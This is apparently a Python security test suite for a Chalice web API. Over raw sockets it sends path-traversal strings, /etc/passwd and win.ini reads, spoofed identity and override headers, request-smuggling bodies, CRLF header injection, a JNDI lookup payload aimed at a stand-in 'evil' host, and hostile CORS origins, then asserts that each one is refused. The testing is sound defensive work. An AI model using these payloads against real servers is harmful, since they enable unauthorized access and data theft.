"""Paths and headers, byte by byte over a socket: what a browser, a proxy or a client library would never send."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any, Final

import pytest
from chalice.config import Config

import app as page
from dev.http_server import create_server
from tests.attack.battlefield import Battlefield
from tests.attack.record import Tried
from tests.attack.routes import requests

SECTION = "4 Paths and headers"
HOST: Final = b"Host: 127.0.0.1\r\n"


@dataclass
class Wire:
    """The local server, spoken to in bytes."""

    field: Battlefield
    port: int

    def say(self, content: bytes, *, waits: float = 5.0) -> bytes:
        """Send bytes and read until the other side has nothing more to say."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=waits) as line:
            line.sendall(content)
            line.shutdown(socket.SHUT_WR)
            return b"".join(iter(lambda: line.recv(65536), b""))

    def ask(self, target: str | bytes, *headers: str | bytes, method: str = "GET", body: bytes = b"") -> bytes:
        """Send one request as it is given."""
        shown = target if isinstance(target, bytes) else target.encode("utf-8", "surrogateescape")
        lines = [one if isinstance(one, bytes) else one.encode("utf-8", "surrogateescape") for one in headers]
        lines += [b"Connection: close", b"Content-Length: " + str(len(body)).encode()]
        return self.say(
            method.encode() + b" " + shown + b" HTTP/1.1\r\n" + HOST + b"\r\n".join(lines) + b"\r\n\r\n" + body
        )

    def bearer(self, *, of_ada: bool = False) -> str:
        """Mallory's own good token, or Ada's."""
        return f"Authorization: Bearer {self.field.token(self.field.ada if of_ada else self.field.mallory)}"


@pytest.fixture(scope="module")
def wire(field: Battlefield) -> Iterator[Wire]:
    """`chalice local`'s server as `make run` has it, on a free port."""
    original = page.app.__class__
    server = create_server(page.app, Config(), 0)
    thread = threading.Thread(target=server.server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    yield Wire(field, server.server.server_port)
    server.server.shutdown()
    server.server.server_close()
    thread.join()
    page.app.__class__ = original


def status_of(answer: bytes) -> int:
    """The status of the first answer on the wire."""
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/") else 0


def code_of(answer: bytes) -> str:
    """Its status and code; every refusal has our envelope, and nothing of ours is told."""
    head, _, body = answer.partition(b"\r\n\r\n")
    status = status_of(answer)
    for word in (b"Traceback", b"Python", b"chalicelib", b"BaseHTTP"):
        assert word not in answer, answer[:500]
    if status >= 400:
        error: dict[str, Any] = json.loads(body)["error"]
        assert b"access-control-allow-origin: *" in head.lower()
        return f"{status} {error['code']}"
    return str(status)


def test_another_path_to_somebody_elses_things_leads_nowhere(wire: Wire, tried: Tried) -> None:
    """With a token of one's own: a path that is read in two ways by two readers must be no way around the owner."""
    victim, job = wire.field.ada.user_id, wire.field.ada.has["job"]
    inside = f"{wire.field.mallory.user_id}/../{victim}/{job}"
    targets: Mapping[str, str | bytes] = {
        "an encoded slash": f"/api/v1/process/result/..%2F{victim}%2F{job}",
        "an encoded slash, encoded again": f"/api/v1/process/result/..%252F{victim}%252F{job}",
        "dot segments": f"/api/v1/process/result/../{victim}/{job}",
        "encoded dot segments": f"/api/v1/process/result/%2e%2e/{victim}/{job}",
        "dots, encoded again": f"/api/v1/process/result/%252e%252e%252f{job}",
        "a backslash": f"/api/v1/process/result/..\\{victim}\\{job}",
        "an encoded backslash": f"/api/v1/process/result/..%5c{job}",
        "the owner before the id": f"/api/v1/process/result/{victim}/{job}",
        "the owner before the id, encoded": f"/api/v1/process/result/{victim}%2f{job}",
        "a way through one's own folder": f"/api/v1/process/result/{inside.replace('/', '%2f')}",
        "a NUL after the id": f"/api/v1/process/result/{job}%00",
        "an id after a NUL": f"/api/v1/process/result/%00{job}",
        "a line end after the id": f"/api/v1/process/result/{job}%0d%0aX-Evil:1",
        "a space after the id": f"/api/v1/process/result/{job}%20",
        "the suffix of the object": f"/api/v1/process/result/{job}.json",
        "a parameter after a semicolon": f"/api/v1/process/result/{job};user={victim}",
        "the owner in the query": f"/api/v1/process/result/{job}?user_id={victim}&owner={victim}",
        "an id in upper case": f"/api/v1/process/result/{job.upper()}",
        "an id percent-encoded": "/api/v1/process/result/" + "".join(f"%{ord(c):02x}" for c in job),
        "an overlong encoding": f"/api/v1/process/result/{job}%c0%af",
        "bytes that are not UTF-8": f"/api/v1/process/result/{job}".encode() + b"\xff",
        "letters of another script": f"/api/v1/process/result/{job.replace('e', 'е')}",
        "fullwidth letters": f"/api/v1/process/result/{job.replace('e', 'ｅ')}",
        "a wildcard": "/api/v1/process/result/*",
        "a key of the table": f"/api/v1/process/result/USER%23{victim}",
        "8,000 characters": "/api/v1/process/result/" + "x" * 8000,
        "2,000 segments": "/" + "x/" * 2000,
    }
    for name, target in targets.items():
        with wire.field.unchanged():
            answer = wire.ask(target, wire.bearer())
        assert b"Potassium" not in answer
        expected = ("404 JOB_NOT_FOUND", "404 NOT_FOUND", "400 INVALID_REQUEST", "414 INVALID_REQUEST")
        tried.answered(
            f"Path to somebody else's result: {name}",
            "GET /api/v1/process/result/{job_id}",
            expected,
            [code_of(answer)],
        )


def test_another_spelling_of_a_path_needs_its_token_all_the_same(wire: Wire, tried: Tried) -> None:
    spellings = {
        "a slash twice": "//user//profile",
        "a dot segment": "/./user/./profile",
        "through a public path": "/health/../user/profile",
        "through a public path, encoded": "/health/%2e%2e/user/profile",
        "through a public path, encoded slashes": "/docs/assets/..%2f..%2f..%2fuser%2fprofile",
        "a slash at the end": "/user/profile/",
        "upper case": "/USER/PROFILE",
        "encoded letters": "/%75ser/%70rofile",
        "a matrix parameter": "/user;x=/profile",
        "a fragment": "/user/profile#/health",
        "an address of its own": "http://127.0.0.1/user/profile",
        "an address elsewhere": "http://evil.example/user/profile",
        "an address with a password": "http://admin:admin@127.0.0.1/user/profile",
        "a stage before it": "/prod/user/profile",
        "a query that looks like a path": "/health?/user/profile",
        "a suffix": "/user/profile.json",
        "a question mark, encoded": "/user/profile%3f",
        "a NUL, encoded": "/user/profile%00",
    }
    for name, target in spellings.items():
        answer = wire.ask(target)
        assert b"email" not in answer
        expected = ("401 MISSING_TOKEN", "404 NOT_FOUND", "200")
        code = code_of(answer)
        assert code != "200" or target.startswith("/health?"), (name, answer[:300])
        tried.answered(f"Path without a token: {name}", "GET /user/profile", expected, [code])


def test_files_outside_of_the_page_are_not_given_out(wire: Wire, tried: Tried) -> None:
    names = (
        "../../../config.py", "..%2f..%2fconfig.py", "%2e%2e%2fLICENSE", "..%5c..%5capp.py", "%2fetc%2fpasswd",
        "....//....//etc/passwd", "start.js%00.css", "start.js/../../docs.py", "VERSION.txt%20", ".", "..", "%2e",
        "C:%5cwindows%5cwin.ini", "file:%2f%2f%2fetc%2fpasswd", "__pycache__", "index.html~",
    )  # fmt: skip
    answers = []
    for name in names:
        answer = wire.ask(f"/docs/assets/{name}")
        assert b"root:" not in answer
        assert b"def " not in answer
        answers.append(code_of(answer))
    tried.answered("Paths out of the folder of the documentation", "/docs/assets/{name}", "404 NOT_FOUND", answers)


def test_headers_that_claim_something_else_change_nothing(wire: Wire, tried: Tried) -> None:
    claims = {
        "another method": ("X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE", "X-Method-Override: DELETE"),
        "another path": ("X-Original-URL: /user/profile", "X-Rewrite-URL: /user/profile", "X-Forwarded-Prefix: /user"),
        "another host": ("X-Forwarded-Host: evil.example", "X-Host: evil.example", "Forwarded: host=evil.example"),
        "to be this machine": ("X-Forwarded-For: 127.0.0.1", "X-Real-IP: 127.0.0.1", "True-Client-IP: 127.0.0.1"),
        "to be API Gateway": ("X-Amzn-Apigateway-Api-Id: 1", "X-Amz-Security-Token: x", "X-Apigateway-Event: {}"),
        "to be somebody": ("X-User-Id: ADA", "X-Amzn-Oidc-Identity: ADA", "X-Remote-User: ADA", "X-Session-ID: ADA"),
        "to be an administrator": ("X-Admin: true", "X-Role: admin", "X-Internal: 1", "X-Debug: 1"),
        "to be checked already": ("X-Authenticated: true", "X-Verified: SUCCESS", "X-Client-Cert: x"),
    }
    own = wire.ask("/user/profile", wire.bearer(), "X-Request-ID: the-same-for-all")
    for name, headers in claims.items():
        named = [one.replace("ADA", wire.field.ada.user_id) for one in headers]
        with wire.field.unchanged():
            unsigned = code_of(wire.ask("/user/profile", *named))
            with_token = wire.ask("/user/profile", wire.bearer(), "X-Request-ID: the-same-for-all", *named)
        assert with_token.partition(b"\r\n\r\n")[2] == own.partition(b"\r\n\r\n")[2]
        tried.answered(f"Headers that claim {name}", "GET /user/profile", "401 MISSING_TOKEN", [unsigned], len(named))


def test_no_answer_repeats_what_a_host_header_says(wire: Wire, tried: Tried) -> None:
    answers = []
    for one in requests():
        if one.method == "GET":
            raw = f"GET {one.path} HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Host: evil.example\r\n"
            answer = wire.say(f"{raw}{wire.bearer()}\r\nConnection: close\r\n\r\n".encode())
            assert b"evil.example" not in answer, one.name
            assert status_of(answer) < 500
            answers.append("not repeated")
    tried.answered("Host: evil.example", "every GET", "not repeated", answers)


def test_two_authorization_headers_are_one_person_at_most(wire: Wire, tried: Tried) -> None:
    """Which of them counts may differ between gateways; never may the two be mixed into something that passes."""
    good, forged = wire.bearer(), "Authorization: Bearer x.y.z"
    ways: Mapping[str, tuple[str | bytes, ...]] = {
        "a forged one before a good one": (forged, good),
        "a good one before a forged one": (good, forged),
        "two of two people": (good, wire.bearer(of_ada=True)),
        "folded over two lines": ("Authorization: Bearer", b" " + good.split()[-1].encode()),
        "with a comma": (f"{good}, Bearer x.y.z",),
    }
    for name, headers in ways.items():
        answer = wire.ask("/user/profile", *headers)
        code = code_of(answer)
        if code == "200":
            assert answer.count(b'"user_id"') <= 1
        expected = ("200", "401 INVALID_TOKEN", "401 MISSING_TOKEN", "400 INVALID_REQUEST")
        tried.answered(f"Authorization twice: {name}", "GET /user/profile", expected, [code])


SMUGGLED: Final = b"GET /user/profile HTTP/1.1\r\nHost: x\r\n\r\n"


def test_a_request_is_not_smuggled_behind_another(wire: Wire, tried: Tried) -> None:
    start = b"POST /auth/logout HTTP/1.1\r\n" + HOST + b"Content-Type: application/json\r\n"
    chunks = b"0\r\n\r\n" + SMUGGLED
    for name, content in {
        "Content-Length and chunks": start + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks,
        "chunks alone": start + b"Transfer-Encoding: chunked\r\n\r\n" + chunks,
        "chunks spelled otherwise": start + b"Transfer-Encoding: xchunked\r\n\r\n" + chunks,
        "chunks after a tab": start + b"Transfer-Encoding:\tchunked\r\n\r\n" + chunks,
        "two lengths that differ": start + b"Content-Length: 0\r\nContent-Length: 42\r\n\r\n" + SMUGGLED,
        "two lengths in one": start + b"Content-Length: 0, 42\r\n\r\n" + SMUGGLED,
        "a negative length": start + b"Content-Length: -1\r\n\r\n" + SMUGGLED,
        "a length with a sign": start + b"Content-Length: +0\r\n\r\n" + SMUGGLED,
        "a length in hexadecimal": start + b"Content-Length: 0x2a\r\n\r\n" + SMUGGLED,
        "a length of 100 digits": start + b"Content-Length: " + b"9" * 100 + b"\r\n\r\n" + SMUGGLED,
        "a length of another script": start + "Content-Length: ٤\r\n\r\n".encode() + SMUGGLED,
        "a body shorter than its length": start + b"Content-Length: 9000\r\n\r\n" + SMUGGLED,
    }.items():
        answer = wire.say(content)
        assert answer.count(b"HTTP/1.1 ") == 1, (name, answer)
        expected = ("400 INVALID_REQUEST", "411 INVALID_REQUEST", "413 REQUEST_TOO_LARGE")
        tried.answered(f"Smuggling: {name}", "POST /auth/logout", expected, [code_of(answer)])


def test_headers_without_measure_or_form_are_refused(wire: Wire, tried: Tried) -> None:
    strange: Mapping[str, tuple[str | bytes, ...]] = {
        "of 100,000 characters": (f"X-Long: {'x' * 100_000}",),
        "1,000 of them": tuple(f"X-{number}: 1" for number in range(1000)),
        "a token of 60,000 characters": (f"Authorization: Bearer {'x' * 60_000}",),
        "without a colon": ("X-Nothing",),
        "a space before the colon": ("Authorization : Bearer x",),
        "a NUL in a value": (b"X-Request-ID: a\x00b",),
        "a carriage return in a value": (b"X-Request-ID: aaaaaaaa\rX-Evil: 1",),
        "bytes that are not ASCII": (b"X-Request-ID: \xff\xfe\xfd",),
        "an empty name": (": x",),
    }
    for name, headers in strange.items():
        answer = wire.ask("/user/profile", *headers)
        assert b"X-Evil" not in answer
        expected = ("400 INVALID_REQUEST", "401 MISSING_TOKEN", "401 INVALID_TOKEN", "431 INVALID_REQUEST")
        tried.answered(f"Header: {name}", "GET /user/profile", expected, [code_of(answer)])


def test_what_a_caller_calls_a_request_is_repeated_only_if_it_is_harmless(wire: Wire, tried: Tried) -> None:
    for given in (
        "a\r\nSet-Cookie: x=1",
        "<script>",
        "x" * 65,
        "short",
        "../../x",
        "${jndi:ldap://evil}",
        "a b c d e f",
    ):
        answer = wire.ask("/health", f"X-Request-ID: {given}".replace("\r\n", "%0d%0a"))
        assert given.encode() not in answer
        shown = json.dumps(given)[1:25]
        tried.held(f"X-Request-ID: `{shown}`", "GET /health", "another id is drawn", "another id is drawn")


METHODS: Final = ("TRACE", "CONNECT", "PROPFIND", "OPTIONS", "PATCH", "get", "GET/../POST", "X" * 5000)


def test_another_method_does_nothing(wire: Wire, tried: Tried) -> None:
    for method in METHODS:
        with wire.field.unchanged():
            answer = wire.ask("/user/profile", wire.bearer(), method=method)
        assert b"Authorization" not in answer.partition(b"\r\n\r\n")[2], "TRACE repeats what it was sent"
        expected = ("405 METHOD_NOT_ALLOWED", "400 INVALID_REQUEST", "404 NOT_FOUND", "414 INVALID_REQUEST", "200")
        code = code_of(answer)
        assert code != "200" or method == "OPTIONS"
        tried.answered(f"Method {method[:12]}", "/user/profile", expected, [code])
    for line in (
        b"GET /user/profile\r\n\r\n",
        b"\r\n\r\n",
        b"GET\r\n\r\n",
        b"GET /health HTTP/9.9\r\n\r\n",
        b"\x16\x03\x01",
    ):
        answer = wire.say(line)
        assert status_of(answer) in {0, 400, 505}, answer
    tried.held("What is not HTTP as we understand it", "the port", "400, 505 or no answer", "400, 505 or no answer", 5)


def test_other_origins_get_no_credentials(wire: Wire, tried: Tried) -> None:
    for origin in ("https://evil.example", "null", "http://127.0.0.1.evil.example", "https://serenya.app.evil.example"):
        asked = (f"Origin: {origin}", "Access-Control-Request-Method: DELETE")
        answers = [wire.ask("/user/profile", *asked, method="OPTIONS"), wire.ask("/user/profile", f"Origin: {origin}")]
        for answer in answers:
            head = answer.partition(b"\r\n\r\n")[0].lower()
            assert b"access-control-allow-credentials" not in head
            assert origin.encode() not in head
            assert b"set-cookie" not in head
        tried.held(
            f"Origin: {origin}", "/user/profile", "no cookies, no credentials, no origin repeated", "as expected", 2
        )
